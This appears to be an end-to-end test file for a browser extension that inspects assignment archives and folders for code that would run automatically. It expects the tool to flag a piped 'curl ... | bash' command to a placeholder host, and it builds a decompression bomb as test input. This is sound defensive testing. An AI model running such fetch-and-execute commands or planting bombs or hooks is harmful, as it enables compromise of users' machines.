import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'fflate';
import { packTar } from 'modern-tar';
import type { Page } from 'playwright';
import { afterAll, describe, expect, it } from 'vitest';
import type { Browser } from '../../utils/cli/browser/launch.ts';
import { locked, ordinary, packed, trap } from './assignments.ts';
import { choose, file, shows, verdictOn, words } from './inspect-page.ts';
import { withStages } from './shared-stage.ts';
import { textOf } from './stage.ts';
import { ownKinds } from './tested-kinds.ts';

const packedTar = async (texts: Readonly<Record<string, string>>) =>
  gzipSync(await packTar(Object.entries(texts).map(([name, body]) => ({ header: { name: `shop/${name}`, size: new TextEncoder().encode(body).length }, body }))));

/** A single line that unpacks to a thousand times its size, behind many small files. Packing it takes a second. */
let packedBomb: Uint8Array | undefined;
const bomb = () => (packedBomb ??= packed({
  ...trap, ...Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`text/${i}.md`, 'A line.\n'])), 'line.js': 'a'.repeat(60_000_000),
}));

/** Playwright cannot choose a folder in Firefox: its files are put where Firefox would. */
const chooseFolder = (files: readonly { path: string; text: string }[]) => {
  const chosen = new DataTransfer();
  for (const { path, text } of files) chosen.items.add(Object.defineProperty(new File([text], path.split('/').at(-1)!), 'webkitRelativePath', { value: path }));
  const input = document.querySelector<HTMLInputElement>('input[name=folder]')!;
  input.files = chosen.files;
  input.dispatchEvent(new Event('change', { bubbles: true }));
};

/** Everything that can be seen and operated gets a number of its own. */
const numberControls = (): string[] =>
  Array.from(document.querySelectorAll<HTMLElement>('a[href], button, input, summary, [tabindex="0"]'))
    .filter((one) => one.checkVisibility() && !(one as HTMLButtonElement).disabled).map((one, i) => (one.dataset['seat'] = `${i}`));

/** Longest time, in ms, that the page could do nothing else: turns of its loop are counted while it works. Machines under load take some by themselves. */
const longestGap = 1_000;
const watchTurns = `(() => { globalThis.longest = 0; let last = performance.now();
  (function turn() { const now = performance.now(); globalThis.longest = Math.max(globalThis.longest, now - last); last = now; setTimeout(turn, 10); })(); })()`;

describe.each(ownKinds)('inspecting an assignment from this computer, in %s', (kind) => {
  let browser: Browser;
  let folder: string;
  /** Opening a page of the extension takes Firefox seconds: all tests share one. */
  let eye: Page;

  withStages.beforeAll(async ({ borrowStage }) => {
    ({ browser } = await borrowStage(kind, () => undefined));
    folder = await mkdtemp(join(tmpdir(), 'bonafide-assignment-'));
    for (const [path, text] of Object.entries(trap)) {
      await mkdir(dirname(join(folder, path)), { recursive: true });
      await writeFile(join(folder, path), text);
    }
    eye = await browser.openExtensionPage('inspect.html');
  });
  afterAll(async () => {
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  it('says of a chosen archive what would start, and where', async () => {
    await choose(eye, 'shop-task.zip', packed(trap));
    expect(await verdictOn(eye)).toContain('danger');
    const said = await words(eye);
    for (const part of ['curl -s https://quiet-harbor.example/setup | bash', 'node ./assets/load.js', 'node server.js', '.vscode/tasks.json:2', 'assets/load.js:5']) expect(said).toContain(part);
    expect(await eye.locator('.tree .tag').count()).toBeGreaterThan(2);
    expect(said).not.toMatch(/\bsafe\b/i);
    expect(browser.sent()).toEqual([]);
  });

  it('leads to the result, and from a place to its file', async () => {
    await choose(eye, 'shop-lead.zip', packed(trap));
    expect(await eye.evaluate(() => document.activeElement?.localName)).toBe('article');
    expect(await eye.locator('[role=status]').first().textContent()).toBe(await textOf(eye, 'inspect.finished'));
    const place = eye.locator('button.where').first();
    const [, name] = /([^/]+):\d+$/.exec((await place.textContent())!)!;
    await place.press('Enter');
    await expect.poll(() => eye.evaluate(() => document.activeElement?.querySelector('bdi')?.textContent)).toBe(name);
  });

  it('is at hand for the keyboard, every part of it', async () => {
    await choose(eye, 'shop-keys.zip', packed(trap));
    const seats = await eye.evaluate(numberControls);
    const reached = new Set<string | undefined>();
    for (let turn = 0; turn < 2 * seats.length && reached.size < seats.length; turn++) {
      await eye.keyboard.press('Tab');
      reached.add(await eye.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['seat']));
      reached.delete(undefined);
    }
    expect([...reached].sort()).toEqual(seats.sort());
  });

  it('does with Enter and Space what a press does', async () => {
    await choose(eye, 'shop-press.zip', packed(trap));
    const finding = eye.locator('details.finding').nth(1);
    await finding.locator('summary').press('Enter');
    expect(await finding.evaluate((details: HTMLDetailsElement) => details.open)).toBe(true);
    // The browser's own choice of files cannot be operated here; that a key asks for it can be seen.
    await eye.evaluate(() => document.querySelector('input[name=archive]')!.addEventListener('click', (event) => {
      event.preventDefault();
      document.title = 'asked for a file';
    }, { once: true }));
    await eye.locator('input[name=archive]').press('Space');
    expect(await eye.title()).toBe('asked for a file');
    await eye.locator('input[name=archive]').setInputFiles(file('bomb.zip', bomb()));
    await eye.locator('progress').waitFor();
    await eye.keyboard.press('Tab');
    await eye.keyboard.press('Enter');
    await shows(eye, await textOf(eye, 'inspect.cancelled'));
    expect(await eye.evaluate(() => document.activeElement?.classList.contains('fault'))).toBe(true);
  });

  it('says of an ordinary archive no more than that nothing was found', async () => {
    await choose(eye, 'plain.zip', packed(ordinary));
    expect(await verdictOn(eye)).toContain('none');
    const said = await words(eye);
    for (const key of ['inspect.levelText.none', 'inspect.neverPackages', 'inspect.throwaway']) expect(said).toContain(await textOf(eye, key));
  });

  it('reads a chosen folder', async () => {
    if (kind === 'chromium') await eye.locator('input[name=folder]').setInputFiles(folder);
    else await eye.evaluate(chooseFolder, Object.entries(trap).map(([path, text]) => ({ path: `shop/${path}`, text })));
    await shows(eye, 'assets/load.js:5');
    expect(await verdictOn(eye)).toContain('danger');
  });

  it('takes what is dropped', async () => {
    await eye.evaluate((bytes) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([new Uint8Array(bytes)], 'dropped.tar.gz'));
      document.querySelector('.drop')!.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
    }, [...(await packedTar(trap))]);
    await shows(eye, 'dropped.tar.gz');
    expect(await verdictOn(eye)).toContain('danger');
  });

  it.each([
    ['notes.zip', new TextEncoder().encode('These are no bytes of an archive.'), 'notes.zip is damaged'],
    ['task.7z', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4), 'task.7z is a .7z archive, which is not read here. Unpack it'],
    ['locked.zip', locked(ordinary), 'Password-protected: nothing inside could be checked'],
    ['cut.zip', packed(trap).slice(0, 700), 'Cut off: the end is missing'],
  ])('has a clear sentence for %s', async (name, bytes, sentence) => {
    await choose(eye, name, bytes, sentence);
    expect(await words(eye)).not.toContain(await textOf(eye, 'inspect.levelText.none'));
  });

  it('stays at hand while it reads an archive packed like a bomb, and tells of the rest', async () => {
    await eye.evaluate(watchTurns);
    await choose(eye, 'bomb.zip', bomb(), 'Packed like a bomb');
    expect(await words(eye)).toContain('assets/load.js:5');
    expect(await eye.evaluate('globalThis.longest')).toBeLessThan(longestGap);
  });

});
